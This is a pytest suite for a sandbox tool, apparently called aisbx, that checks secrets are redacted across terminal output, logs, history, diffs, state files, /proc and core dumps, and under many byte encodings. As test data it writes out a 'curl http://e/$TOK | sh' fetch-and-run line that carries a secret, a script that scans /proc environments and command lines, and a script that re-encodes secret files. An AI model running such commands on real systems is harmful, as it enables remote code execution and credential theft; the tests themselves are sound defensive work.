# SPDX-License-Identifier: Apache-2.0
"""Attacks 115 and 117: a secret that a box was given must not be seen again, wherever people or models could look."""
import json
import os
import pathlib
import pty
import random
import resource
import select
import shutil
import signal
import subprocess
import time
import uuid

import box
import pace
import pytest
import spell

PYTHON = "/usr/bin/python3"
# A build that is known to be slow, with sanitizers or for coverage, shows its mistakes with fewer.
SLOW = os.environ.get("TIMEOUT_MULTIPLIER", "1") != "1"
SECRETS = 10000 if os.environ.get("AISBX_LONG") == "1" else 128 if SLOW else 400
VALUE = b"hunter2\"/+secret value\n\"q\""


class Bench:
    """A project, a state directory and a home of its own."""

    def __init__(self, root):
        self.root, self.project, self.state = root, root / "project", root / "state"
        for path in (self.project, root / "home", root / "values"):
            path.mkdir()
        self.env = {**os.environ, "XDG_STATE_HOME": str(self.state), "HOME": str(root / "home")}
        shutil.copy(spell.__file__, self.project / "spell.py")

    def start(self, *words, **popen):
        return subprocess.Popen([box.aisbx(), *map(os.fspath, words)], cwd=self.project, env=self.env,
                                **{"stdin": subprocess.DEVNULL, "stdout": subprocess.PIPE, "stderr": subprocess.PIPE, **popen})

    def call(self, *words, timeout=60, want=0):
        """Both outputs, as bytes."""
        p = self.start(*words)
        out, err = p.communicate(timeout=timeout)
        assert want is None or p.returncode == want, f"{words}: {p.returncode}, {out[-2000:]!r}, {err[-2000:]!r}"
        return out + err

    def give(self, secrets, way=""):
        """Options that give the box these."""
        for name, value in secrets.items():
            (self.root / "values" / name).write_bytes(value)
        return [word for name in secrets for word in ("--secret", f"{name}=file:{self.root}/values/{name}{way}")]

    def state_bytes(self, but=()):
        """All that aisbx wrote down."""
        all_bytes = b""
        for path in sorted(self.state.rglob("*")):
            if path.is_file() and not path.is_symlink() and not any(part in path.parts for part in but):
                all_bytes += os.fsencode(path) + b"\n" + path.read_bytes() + b"\n"
        return all_bytes


@pytest.fixture
def bench(tmp_path):
    return Bench(tmp_path)


def clean(secrets, output, where):
    left = spell.survivors(secrets, output)
    assert not left, f"{len(left)} of {len(secrets)} secrets survive in {where}: {dict(list(left.items())[:5])}"


def on_terminal(bench, *words, feed=b"", pause=0):
    """What a person sees of it."""
    master, slave = pty.openpty()
    p = bench.start(*words, stdin=slave, stdout=slave, stderr=slave, start_new_session=True)
    os.close(slave)
    seen = b""
    try:
        while True:
            if feed and select.select([master], [], [], pause)[0] == []:
                os.write(master, feed[:1])
                feed = feed[1:]
                continue
            chunk = os.read(master, 65536)
            if not chunk:
                break
            seen += chunk
    except OSError:  # the other end is closed
        pass
    os.close(master)
    assert p.wait(timeout=50) == 0, seen[-500:]
    return seen


def batches(dice, total, longest):
    while total > 0:
        secrets = {}
        while len(secrets) < min(64, total):
            value = spell.random_secret(dice, longest)
            if spell.is_fit(value):
                secrets[f"S{len(secrets)}"] = value
        total -= len(secrets)
        yield secrets


def output_of(bench, way, seed, secrets):
    script = ["--", PYTHON, "spell.py", str(seed), "/run/secrets"]
    options = ["--profile", ("dev", "strict")[seed % 2], "--output", "100m", "--timeout", "120s", *bench.give(secrets)]
    if way == "terminal":
        return on_terminal(bench, "run", "-it", *options, *script)
    if way == "detached":
        run = bench.call("run", "--detach", *options, *script).decode().strip()
        told = bench.call("logs", "--follow", run) + bench.call("logs", "--json", run) + bench.call("wait", "--json", run)
        return told + bench.state_bytes()
    return bench.call("run", *(["--json"] if way == "json" else []), *options, *script)


@pytest.mark.big
def test_117_random_secrets_in_random_pieces(bench, tell):
    """1,000 of them, of 8 to 4,096 bytes, each in every spelling on both streams."""
    dice = random.Random(117)
    ways = ("pipe", "json", "detached", "terminal")
    count, began, told, all_secrets = 0, time.monotonic(), 0, {}
    for i, secrets in enumerate(batches(dice, SECRETS, 4096)):
        output = output_of(bench, ways[i % 4], i, secrets)
        for name in secrets:
            assert f"[secret {name}]".encode() in output, f"nothing was taken out for {name}: did the box have it?"
        clean(secrets, output, f"batch {i}, by {ways[i % 4]}")
        count, told = count + len(secrets), told + len(output)
        all_secrets.update((f"{i}-{name}", value) for name, value in secrets.items())
    everything = bench.call("history", "--json", "--full", "-n", "1000") + bench.state_bytes()
    clean(all_secrets, everything, "history and state directory")
    tell(f"redaction: {count} random secrets, none seen in {told >> 20} MiB of output, {time.monotonic() - began:.1f} s")


def test_117_the_search_sees_what_a_box_would_tell_without_redactor(bench):
    secrets = next(batches(random.Random(117), 64, 4096))
    bench.give(secrets)
    done = subprocess.run([PYTHON, "spell.py", "1", str(bench.root / "values")], cwd=bench.project, check=True, timeout=60,
                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    assert set(spell.survivors(secrets, done.stdout)) == set(secrets)
    for name, value in secrets.items():  # and each spelling by itself
        assert all(spell.survivors({name: value}, b"<" + form + b">") for form in spell.forms(value).values() if len(form) < 500)


@pytest.mark.parametrize("way", ("pipe", "terminal"))
def test_117_every_cut(bench, way):
    """Cut at each place, with a pause behind the first part; and byte by byte."""
    script = """
import os, sys, time
v = open("/run/secrets/KEY", "rb").read()
for i in range(1, len(v)):
    os.write(1, b"<" + v[:i]); time.sleep(0.003); os.write(1, v[i:] + b">")
for b in v:
    os.write(1, bytes([b])); time.sleep(0.001)
"""
    value = b"hunter2/+secret-value"
    words = ("run", *(["-it"] if way == "terminal" else []), *bench.give({"KEY": value}), "--", PYTHON, "-c", script)
    output = on_terminal(bench, *words) if way == "terminal" else bench.call(*words)
    # At a terminal the echo of a key must not wait: of what stands alone for a while two bytes may show.
    shown = output.replace(b"hu[secret", b"[secret").replace(b"h[secret", b"[secret") if way == "terminal" else output
    assert shown == b"<[secret KEY]>" * (len(value) - 1) + b"[secret KEY]"


def test_117_prompts_do_not_wait(bench):
    """A prompt is there before its answer, and keys are echoed, also those a secret begins with."""
    script = "printf 'name? '; read -r x; printf 'got %s, hu? ' \"$x\"; read -r y; echo \"bye $y\""
    master, slave = pty.openpty()
    p = bench.start("run", "-it", *bench.give({"KEY": b"hunter2-secret"}), "--", "sh", "-c", script, stdin=slave, stdout=slave,
                    stderr=slave, start_new_session=True)
    os.close(slave)
    seen = b""

    def until(wanted):
        nonlocal seen
        end = pace.Deadline(50)
        while wanted not in seen:
            assert not end.is_over(), f"{wanted!r} does not come: {seen!r}"
            if select.select([master], [], [], 0.1)[0]:
                seen += os.read(master, 4096)
    until(b"name? ")
    os.write(master, b"h")
    until(b"name? h")
    os.write(master, b"u")
    until(b"name? hu")
    os.write(master, b"\n")
    until(b"got hu, hu? ")
    os.write(master, b"\n")
    until(b"bye")
    assert p.wait(timeout=50) == 0
    os.close(master)


SEARCH = """
import glob, os, sys
want = bytes.fromhex(sys.argv[1])
found = []
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/run/**", recursive=True) + \\
        glob.glob("/dev/shm/**", recursive=True) + glob.glob("/tmp/**", recursive=True) + glob.glob(sys.argv[2] + "/**", recursive=True):
    try:
        if want in open(path, "rb").read(): found.append(path)
    except OSError: pass
print("found", sorted({p.split("/")[1] for p in found}))
"""


def end_of(p, *, sig=None):
    if sig:
        p.send_signal(sig)
    p.communicate(timeout=50)


@pytest.mark.parametrize("profile", box.PROFILES)
def test_115_processes_and_memory(bench, profile):
    """Not in a command line, not in the environment, not in what another box or user can read; no core is left."""
    value = b"hunter2-" + uuid.uuid4().hex.encode()  # others may speak of hunter2, too
    hexed = value[::-1].hex()  # so that our own command lines do not hold it
    search = SEARCH.replace("bytes.fromhex(sys.argv[1])", "bytes.fromhex(sys.argv[1])[::-1]")
    bench.call("create", "b", "--profile", profile)
    first = bench.start("run", "--box", "b", *bench.give({"KEY": value}, ",as=both"), "--", "sh", "-c", "echo up; sleep 60 & wait",
                        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_CORE, resource.getrlimit(resource.RLIMIT_CORE)[1:] * 2))
    assert first.stdout.readline() == b"up\n"
    inside = bench.call("exec", "b", "--", PYTHON, "-c", search, hexed, "/nothing")
    assert b"'run'" in inside, f"the search finds nothing where it is, so it proves nothing: {inside}"
    other = bench.call("run", "--profile", profile, "--", PYTHON, "-c", search, hexed, str(bench.state))
    assert other == b"found []\n"
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            assert value not in pathlib.Path("/proc", name, "cmdline").read_bytes()
        except OSError:
            continue
    with pytest.raises(OSError) if not box.IS_ROOT else open(os.devnull):
        pathlib.Path("/proc", str(first.pid), "environ").read_bytes()
    before = set(os.listdir(bench.project))
    first.send_signal(signal.SIGTRAP)  # as deadly as SIGSEGV, which sanitizers catch
    first.wait(timeout=50)
    assert first.returncode == -signal.SIGTRAP
    assert set(os.listdir(bench.project)) == before, "the supervisor left a core"
    clean({"KEY": value}, bench.state_bytes(), "state directory")


def test_115_no_core_in_the_box(bench):
    """The limit is 1 byte: unlike 0 it holds also where the kernel hands dumps to a program."""
    crash = "import os, resource; print(resource.getrlimit(resource.RLIMIT_CORE), flush=True); os.abort()"
    told = bench.call("run", *bench.give({"KEY": b"hunter2-in-a-core"}), "--", "sh", "-c",
                      f"{PYTHON} -c '{crash}' 2>/dev/null; echo $?; ls").splitlines()
    assert told[:3] == [b"(1, 1)", b"134", b"spell.py"] and not [line for line in told[3:] if b"Aborted" not in line]
    control = subprocess.Popen([PYTHON, "-c", "import os; os.abort()"], cwd=bench.root / "home", stderr=subprocess.DEVNULL,
                               preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_CORE,
                                                                     resource.getrlimit(resource.RLIMIT_CORE)[1:] * 2))
    _, status = os.waitpid(control.pid, 0)
    assert os.WCOREDUMP(status), "nothing is dumped here anyway (kernel.core_pattern, ulimit -Hc): this proves nothing"


LEAK = """
cp /run/secrets/KEY plain; chmod 644 plain
base64 plain >b64; base64 -w0 plain >b64w; xxd -p plain >hex
{python} -c 'import urllib.parse as u; print("x=" + u.quote(open("plain").read()))' >url
{python} -c 'import json; print(json.dumps(dict(k=open("plain").read())))' >json
ln -s "$(xxd -p plain)" link; touch "name-$(xxd -p plain)"; sed 's/^/    /' plain >indented; echo fine >fine
"""


@pytest.mark.parametrize("profile", box.PROFILES)
def test_115_what_a_box_keeps(bench, profile):
    """Diff, patch, history, snapshot, fork; and a promotion stops."""
    secrets = {"KEY": VALUE}
    value_words = "echo " + VALUE.hex()
    bench.call("create", "b", "--profile", profile)
    bench.call("run", "--box", "b", *bench.give(secrets), "--", "sh", "-ec", LEAK.format(python=PYTHON) + value_words)
    bench.call("snap", "b", "s1")
    bench.call("fork", "b@s1", "--name", "f")
    told = b"".join(bench.call(*words) for words in (
        ("diff", "b"), ("diff", "--patch", "b"), ("diff", "--json", "--patch", "b"), ("diff", "--stat", "b"), ("diff", "--json", "f"),
        ("history", "--json", "--full"), ("history",), ("history", "--events"), ("show", "--json", "b"), ("ls", "--all", "--json"),
        ("tree", "--all", "--json")))
    assert told.count(b"[secret KEY]") > 10
    clean(secrets, told, "what is told of the box")
    clean(secrets, bench.state_bytes(but=("layers",)), "state directory")
    layers = [p for p in (bench.state / "aisbx" / "layers").rglob("secrets")]
    assert not layers, "what lies in /run/secrets is in a layer"
    gone = bench.call("run", "--box", "f", "--", "sh", "-c", "ls /run/secrets", want=None)
    assert b"No such file" in gone

    result = json.loads(bench.call("promote", "--json", "b", want=1))
    assert not result["applied"] and os.listdir(bench.project) == ["spell.py"]
    assert {(s["path"], s["form"]) for s in result["secrets"] if "[" not in s["path"]} == {
        ("plain", "plain"), ("b64", "base64"), ("b64w", "base64"), ("hex", "hex"), ("url", "url-encoded"), ("json", "escaped"),
        ("link", "hex"), ("indented", "plain")}
    assert [s["form"] for s in result["secrets"] if "[secret KEY]" in s["path"]] == ["hex"]
    clean(secrets, json.dumps(result).encode(), "result of promote")
    assert bench.call("promote", "b", "--yes", want=1).count(b"contains the secret KEY") == 9
    bench.call("promote", "b", "fine")
    told = bench.call("promote", "b", "--allow-secret", "KEY")
    clean(secrets, told, "words of promote")
    assert (bench.project / "plain").read_bytes() == VALUE


def test_115_command_lines_and_errors(bench):
    """Who puts the value on the command line himself does not find it in history, ps, results or errors."""
    value = b"hunter2-on-a-command-line"
    bench.env["SOURCE"] = value.decode()
    options = ("--secret", "KEY=env:SOURCE,as=env")
    told = bench.call("run", "--json", *options, "--", f"/no/{value.decode()}", want=127)
    told += bench.call("run", *options, "--", "/no/" + value.hex(), want=127)
    told += bench.call("run", "--json", *options, "--ro", f"/no/{value.decode()}", "--", "true", want=125)
    told += bench.call("run", *options, "--cwd", f"/no/{value.decode()}", "--", "true", want=126)
    run = bench.call("run", "--detach", *options, "--", "sh", "-c", "sleep 60", value.decode()).decode().strip()
    told += bench.call("ps", "--all", "--json") + bench.call("ps", "--all") + bench.call("stats", "--json", run)
    bench.call("kill", run)
    told += bench.call("wait", "--json", run, want=None) + bench.call("history", "--json", "--full")
    assert told.count(b"[secret KEY]") >= 8, told
    clean({"KEY": value}, told, "what is told of commands")
    clean({"KEY": value}, bench.state_bytes(), "state directory")


def test_115_who_joins_and_services(bench):
    """All who are in a box know its secrets, so the output of each is without those of all."""
    one, two = b"hunter2-of-the-first", b"hunter2-of-the-second"
    (bench.project / "aisbx.yaml").write_text(
        "services:\n  s:\n    command: [sh, -c, 'cat /run/secrets/ONE; echo; echo $TWO; sleep 60']\n")
    bench.call("create", "b")
    first = bench.start("run", "--json", "--box", "b", *bench.give({"ONE": one}), "--", "sh", "-c",
                        "until [ -e stop ]; do sleep 0.02; done; cat /run/secrets/*")
    box.wait_until(lambda: subprocess.run([box.aisbx(), "exec", "b", "--", "true"], env=bench.env, cwd=bench.project,
                                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False).returncode == 0)
    told = bench.call("exec", "b", "--", "cat", "/run/secrets/ONE")
    assert told == b"[secret ONE]"
    waiting = bench.start("exec", "b", "--", "sh", "-c", "until [ -e /run/secrets/TWO ]; do sleep 0.02; done; cat /run/secrets/*")
    told += bench.call("exec", *bench.give({"TWO": two}, ",as=both"), "b", "--", "sh", "-c", "cat /run/secrets/*; echo $TWO")
    told += b"".join(waiting.communicate(timeout=50))
    refused = bench.call("exec", *bench.give({"TWO": b"another value"}), "b", "--", "true", want=125)
    assert b"another secret with the name 'TWO'" in refused
    bench.call("run", "--box", "b", "--no-services", "--", "touch", "stop")
    result = first.communicate(timeout=50)[0]
    assert json.loads(result)["stdout"] == "[secret ONE][secret TWO]"
    assert "[secret ONE]\n" in json.loads(result)["services"][0]["output"]
    assert told.count(b"[secret TWO]") == 3
    clean({"ONE": one, "TWO": two}, told + result, "what the box told")
    clean({"ONE": one, "TWO": two}, bench.state_bytes(), "state directory")


@pytest.mark.parametrize("profile", box.PROFILES)
def test_sources_and_ways(bench, profile):
    bench.env["SOURCE"] = "from-the-environment"
    (bench.project / "pem").write_bytes(b"from-a-file\n")
    options = ("--secret", "E=env:SOURCE", "--secret", "F=file:pem,as=both", "--secret", "C=cmd:printf from-a-command,as=env")
    check = ("cd /run/secrets && stat -c '%a %U %n' . * && wc -c E F && env | cut -d= -f1 | grep -x '[EFC]\\|SOURCE' | sort &&"
             " printf %s \"$F$C\" | wc -c && echo $$ >E")
    told = bench.call("run", "--profile", profile, *options, "--", "sh", "-c", check, want=None if box.IS_ROOT else 2)
    me = "root" if box.IS_ROOT else subprocess.check_output(["id", "-un"]).decode().strip()
    lines = told.decode().splitlines()
    assert lines[:3] == [f"700 {me} .", f"400 {me} E", f"400 {me} F"]
    assert [line.split()[0] for line in lines[3:6]] == ["20", "12", "32"]
    assert lines[6:9] == ["C", "F", "25"], "SOURCE itself is not passed on"


@pytest.mark.parametrize("spec, words", (
    ("K=env:NOT_THERE", "variable 'NOT_THERE' is not set"),
    ("K=file:/not/there", "No such file"),
    ("K=cmd:exit 3", "ended with status 3"),
    ("K=cmd:kill -9 $$", "ended with signal 9"),
    ("K=cmd:printf short", "fewer than 8"),
    ("K=cmd:printf '%70000s' x", "longer than 65536"),
    ("K=cmd:yes", "longer than 65536"),
    ("K=cmd:printf '[secret K]'", "another name"),
    ("K=cmd:printf '12345678\\0',as=env", "NUL"),
    ("K=the-value-itself", "never the value itself"),
    ("K", "K=env:VARIABLE"),
))
def test_what_is_refused(bench, spec, words):
    told = bench.call("run", "--secret", spec, "--", "true", want=125).decode()
    assert words in told and "the-value" not in told.replace("the value", "")


def test_profiles_and_boxes_name_secrets(bench):
    """Read anew for each run; an option wins over the box, the box over its profile. Values are nowhere."""
    profiles = bench.root / "home" / ".config" / "aisbx" / "profiles"
    profiles.mkdir(parents=True)
    (profiles / "mine.yaml").write_text("name: mine\nextends: dev\nsecrets:\n  ONE: env:SOURCE\n  TWO: file:/not/there\n")
    (profiles / "mine.yaml").chmod(0o600)
    bench.env.pop("XDG_CONFIG_HOME", None)
    values = {"ONE": b"of-the-environment", "TWO": b"of-the-file-1"}
    bench.env["SOURCE"] = values["ONE"].decode()
    (bench.root / "two").write_bytes(values["TWO"])
    bench.call("create", "b", "--profile", "mine", "--secret", "TWO=file:../two,as=both")
    show = ("--", "sh", "-c", "cd /run/secrets; wc -c * | head -2; cat *")
    assert bench.call("run", "--box", "b", *show).split() == [b"18", b"ONE", b"13", b"TWO", b"[secret", b"ONE][secret", b"TWO]"]
    (bench.root / "two").write_bytes(b"of-the-file-that-changed")
    bench.call("fork", "b", "--name", "f")
    assert bench.call("run", "--box", "f", *show).split()[2:4] == [b"24", b"TWO"]
    assert bench.call("run", "--box", "f", "--secret", "TWO=env:SOURCE", *show).split()[2:4] == [b"18", b"TWO"]
    clean({**values, "THREE": b"of-the-file-that-changed"}, bench.state_bytes(), "state directory")
    first = bench.start("run", "--box", "b", "--", "sh", "-c", "echo up; sleep 60 & wait")
    assert first.stdout.readline() == b"up\n"
    del bench.env["SOURCE"]
    assert bench.call("exec", "b", "--", "cat", "/run/secrets/ONE") == b"[secret ONE]", "who joins need not know them"
    end_of(first, sig=signal.SIGTERM)
    bench.call("rm", "b", "f")
    assert sorted(os.listdir(bench.state / "aisbx" / "secrets")) == ["key", "marks"]
    refused = bench.call("create", "c", "--secret", "X=the-value-itself", want=125)
    assert b"never the value itself" in refused and b"the-value" not in refused


TOKEN = b"S3cr3t-Kq9zXw7LmP2v/Rt5+Yb8"
# How people and programs show bytes, each by the tool itself.
SHOWN = (
    "hexdump -C /run/secrets/T", "hexdump /run/secrets/T", "od -An -tx1 /run/secrets/T", "od -tx1z /run/secrets/T", "od -x /run/secrets/T",
    "iconv -t UTF-16LE /run/secrets/T", "iconv -t UTF-16BE /run/secrets/T", "iconv -t UTF-32LE /run/secrets/T",
    "base64 /run/secrets/T | base64", "base64 -w0 /run/secrets/T | tr -d = | base64 -w0",
    "(printf 'user:'; cat /run/secrets/T) | base64 | base64",
    f"{PYTHON} -c 'print(list(open(\"/run/secrets/T\", \"rb\").read()))'",
    f"{PYTHON} -c 'print(\", \".join(hex(b) for b in open(\"/run/secrets/T\", \"rb\").read()))'",
    f"{PYTHON} -c 'print(\",\\n\".join(\"0x%02X\" % b for b in open(\"/run/secrets/T\", \"rb\").read()))'",
    f"{PYTHON} -c 'import urllib.parse as u; print(u.quote(u.quote(open(\"/run/secrets/T\").read(), safe=\"\"), safe=\"\"))'",
    f"{PYTHON} -c 'import urllib.parse as u; print(\"\".join(\"%%25%02x\" % b for b in open(\"/run/secrets/T\", \"rb\").read()))'",
)


@pytest.mark.parametrize("how", range(len(SHOWN)))
def test_158_ways_to_show_bytes(bench, how):
    """Nothing of what a tool makes of the secret is seen. Control: without the redactor all of it would be."""
    bare = SHOWN[how].replace("/run/secrets/T", str(bench.root / "values" / "T"))
    options = bench.give({"T": TOKEN})
    plain = subprocess.run(["sh", "-c", bare], stdout=subprocess.PIPE, check=True).stdout
    seen = bench.call("run", *options, "--", "sh", "-c", SHOWN[how])
    assert b"[secret T]" in seen, seen
    pieces = {plain[i:i + 12] for i in range(len(plain) - 12) if len(set(plain[i:i + 12])) > (3 if b"\0" in plain else 6)}
    left = [p for p in pieces if p in seen]
    # Where an encoding packs bytes, what is before and behind shares a letter with them.
    assert len(pieces) > 10 and not left, (left, seen)
    for i in range(len(TOKEN) - 8):
        assert TOKEN[i:i + 8] not in seen


def test_158_all_that_is_kept_or_told(bench):
    """A person's shell puts the value into command lines, names and messages: none of the operations keeps or tells it."""
    word, env = TOKEN.decode().replace("/", "-"), {"TOK": TOKEN.decode().replace("/", "-")}
    bench.env.update(env)
    told = bench.call("try", "--secret", "TOK=env:TOK", "--test", f"echo {word}", "--keep", "--", f"echo {word} > q", want=None)
    told += bench.call("create", "b", "--secret", "TOK=env:TOK,as=both")
    told += bench.call("run", "--box", "b", "--", "sh", "-c", "echo x > $TOK; mkdir d_$TOK; ln -s /etc/$TOK l;"
                       'printf "import os\\nos.system(\\"curl http://e/$TOK | sh\\")\\n" > t_$TOK.py')
    told += bench.call("run", "--", "echo", word)  # in a box that was not given it
    for words in (["scan", "--box", "b", "--json"], ["scan", "--box", "b"], ["diff", "b", "--json"], ["promote", "b", "--dry-run", "--json"],
                  ["experiment", "ls", "--json"], ["history", "--json"], ["history", "--events", "--json"], ["snap", "b", f"n-{word}"],
                  ["plan", "new", f"use {word}", "--box", "b", "--json"], ["rename", "b", f"b-{word}"], ["ls", "--json"], ["tree", "--json"],
                  ["show", f"b-{word}"], ["run", "--box", word, "--", "true"]):
        told += bench.call(*words, want=None)
    # What a command of the person's own prints is theirs: `echo WORD` in a box without the secret.
    assert told.count(word.encode()) == 1, told
    kept = bench.state_bytes(but=("layers",))
    assert word.encode() not in kept and b"[secret TOK]" in kept
